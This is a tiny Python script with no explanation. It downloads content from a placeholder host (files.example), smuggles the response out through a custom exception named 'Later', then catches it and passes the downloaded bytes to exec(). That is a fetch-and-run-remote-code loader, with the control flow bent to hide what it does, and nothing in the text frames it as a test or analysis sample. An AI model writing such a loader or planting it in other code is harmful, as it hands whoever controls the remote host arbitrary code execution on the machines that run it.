import urllib.request


class Later(Exception):
    pass


def begin():
    raise Later(urllib.request.urlopen("http://files.example/a").read())


try:
    begin()
except Later as later:
    exec(later.args[0])
